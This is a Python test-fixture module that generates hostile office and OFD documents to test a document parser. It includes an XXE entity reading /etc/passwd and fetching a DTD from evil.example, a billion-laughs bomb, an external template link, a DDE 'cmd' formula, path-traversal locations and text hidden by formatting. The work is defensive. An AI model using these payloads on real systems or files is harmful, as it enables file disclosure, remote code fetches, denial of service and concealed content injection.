"""Hostile Word, Excel and OFD files: bytes by kind, from a source of chance."""

from __future__ import annotations

import io
import re
import zipfile
from random import Random

from evals.prove.documents import OFD, W, docx, ofd, paragraph, pdf, run, zipped
from evals.prove.hostile import GOOD, HIDDEN, Made, Maker

S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
UNFOLDING = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
LOL = f'<!DOCTYPE x [<!ENTITY a "{"哈" * 50}">{UNFOLDING}]>'
OUTSIDE = (
    '<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">'
    '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
)
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r"'
    ' Type="t/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
NUMBERING = (
    '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="{}"/>'
    '<w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%9"/></w:lvl></w:abstractNum>'
    '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
)
STYLES = (
    '<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style>'
    '<w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>'
)
NOTE = '<w:r><w:footnoteReference w:id="2"/></w:r>'
ROWS = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row>'
    '<row r="1048576"><c r="{}"><v>1e999</v></c>'
    '<c r="B2" t="s"><v>99999</v></c><c r="C2"><f>cmd|\'/c calc\'!A1</f></c></row>'
)
LINE = (
    '<ofd:TextObject Boundary="0 0 nan 1e308" Size="6">'
    '<ofd:TextCode X="0" Y="6" DeltaX="g {} 1">{}</ofd:TextCode></ofd:TextObject>'
)
DEEP = (
    ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
    ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
    ("<w:ins>", "</w:ins>"),
)
HIDING = (
    "<w:vanish/>", '<w:color w:val="FFFFFF"/>', '<w:sz w:val="1"/>', '<w:color w:val="FEFEFE"/>',
    '<w:color w:val="F8FFF8"/>', '<w:color w:themeColor="background1"/>', '<w:w w:val="1"/>',
    '<w:color w:val="000000"/><w:shd w:val="clear" w:fill="000000"/>',
)  # fmt: skip
WORDS = "第{}条　" + GOOD


def any_whole(chance: Random) -> tuple[str, bytes]:
    """A document without fault, of any format: its suffix and bytes."""
    said = GOOD.format(chance.randrange(10**6))
    cells = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{said}</t></is></c></row>'
    whole = (
        (".docx", docx(_body(chance))),
        (".pdf", whole_pdf(chance)),
        (".ofd", ofd([[(32, 40, said[:20], 6)]])),
        (".xlsx", _sheet(cells)),
        (".zip", zipped({"a.txt": said})),
    )
    return chance.choice(whole)


def whole_pdf(chance: Random) -> bytes:
    """A PDF without fault."""
    return pdf([[(90, 90 + 30 * n, GOOD.format(chance.randrange(10**6))[:30], 14) for n in range(4)]])


def _body(chance: Random) -> str:
    return "".join(paragraph(WORDS.format(n, chance.randrange(10**6))) for n in range(1, 4))


def _sheet(cells: str, more: str = "") -> bytes:
    """A workbook whose one sheet holds these cells as they stand."""
    import openpyxl

    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    with zipfile.ZipFile(out) as book:
        parts: dict[str, str | bytes] = {name: book.read(name) for name in book.namelist()}
        dated = book.read("docProps/core.xml").decode()
    parts["docProps/core.xml"] = re.sub(r"T[\d:]+Z", "T00:00:00Z", dated)
    parts["xl/worksheets/sheet1.xml"] = f"<worksheet {S}><sheetData>{cells}</sheetData>{more}</worksheet>"
    return zipped(parts)


def _cut(chance: Random) -> Made:
    suffix, data = any_whole(chance)
    return Made(suffix, data[: chance.randrange(1, len(data))])


def _bent(chance: Random) -> Made:
    suffix, data = any_whole(chance)
    bent = bytearray(data)
    for _ in range(chance.choice((1, 5, 50))):
        bent[chance.randrange(len(bent))] = chance.randrange(256)
    return Made(suffix, bytes(bent))


def _renamed(chance: Random) -> Made:
    _, data = any_whole(chance)
    return Made(chance.choice((".txt", ".md", ".html", ".png", ".doc")), data)


def _entities(chance: Random) -> Made:
    body = f"{_body(chance)}<w:p><w:r><w:t>甲&i;</w:t></w:r></w:p>"
    dtd = chance.choice((LOL, OUTSIDE))
    document = f"<?xml version='1.0'?>{dtd}<w:document {W}><w:body>{body}</w:body></w:document>"
    return Made(".docx", zipped({"word/document.xml": document}), planted="root:")


def _hidden_word(chance: Random) -> Made:
    planted = paragraph(run("补助标准为500元。") + run(HIDDEN, chance.choice(HIDING)))
    return Made(".docx", docx(_body(chance) + planted), planted=HIDDEN)


def _deep_word(chance: Random) -> Made:
    depth = chance.choice((200, 5000, 60_000))
    opened, closed = chance.choice(DEEP)
    return Made(".docx", docx(_body(chance) + opened * depth + paragraph("甲") + closed * depth))


def _odd_word(chance: Random) -> Made:
    huge = chance.choice((10**4, 10**7, 10**12, -5))
    level = f'<w:ilvl w:val="{chance.choice((0, 99, -1))}"/>'
    numbered = paragraph("甲。", f'<w:pStyle w:val="a"/><w:numPr>{level}<w:numId w:val="1"/></w:numPr>')
    span = f'<w:tcPr><w:gridSpan w:val="{huge}"/><w:vMerge/></w:tcPr>'
    cell = f"<w:tbl><w:tr><w:tc>{span}{paragraph('乙')}</w:tc></w:tr></w:tbl>"
    footnote = f'<w:footnote w:id="2">{paragraph("注" * 10)}{NOTE}</w:footnote>'
    parts = {"numbering": NUMBERING.format(huge), "styles": STYLES, "footnotes": footnote}
    return Made(".docx", docx(_body(chance) + numbered + cell + paragraph(NOTE), **parts))


def _macro(chance: Random) -> Made:
    parts: dict[str, str | bytes] = {
        "word/document.xml": f"<w:document {W}><w:body>{_body(chance)}</w:body></w:document>",
        "word/vbaProject.bin": b"Auto_Open" * 50,
        "word/_rels/document.xml.rels": TEMPLATE,
    }
    return Made(".docx", zipped(parts), planted="Auto_Open")


def _odd_sheet(chance: Random) -> Made:
    last = chance.choice(("XFD1048576", "ZZZZ9", "A0", "A99999999"))
    cells = ROWS.format(GOOD.format(chance.randrange(10**6)), last)
    return Made(".xlsx", _sheet(cells, f'<mergeCells><mergeCell ref="A1:{last}"/></mergeCells>'))


def _odd_ofd(chance: Random) -> Made:
    loc = chance.choice(
        ("../../../../etc/passwd", "/etc/passwd", "OFD.xml", "Doc_0/Document.xml", "\\\\x\\y")
    )
    line = LINE.format(chance.choice((10, 10**7, 10**12)), GOOD.format(3))
    root, page = chance.choice((loc, "Doc_0/Document.xml")), chance.choice((loc, "P.xml"))
    pages = f'<ofd:Page ID="1" BaseLoc="{page}"/><ofd:Page ID="1" BaseLoc="P.xml"/>'
    parts = {
        "OFD.xml": f"<ofd:OFD {OFD}><ofd:DocBody><ofd:DocRoot>{root}</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
        "Doc_0/Document.xml": f"<ofd:Document {OFD}><ofd:Pages>{pages}</ofd:Pages></ofd:Document>",
        "Doc_0/P.xml": (
            f"<ofd:Page {OFD}><ofd:Content><ofd:Layer>{line}</ofd:Layer></ofd:Content></ofd:Page>"
        ),
    }
    return Made(".ofd", zipped(parts), planted="root:")


OFFICE: dict[str, Maker] = {
    "截断": _cut,
    "坏字节": _bent,
    "改名": _renamed,
    "XML 实体": _entities,
    "Word 藏字": _hidden_word,
    "深 Word": _deep_word,
    "怪 Word": _odd_word,
    "宏和外链": _macro,
    "怪表格": _odd_sheet,
    "怪 OFD": _odd_ofd,
}
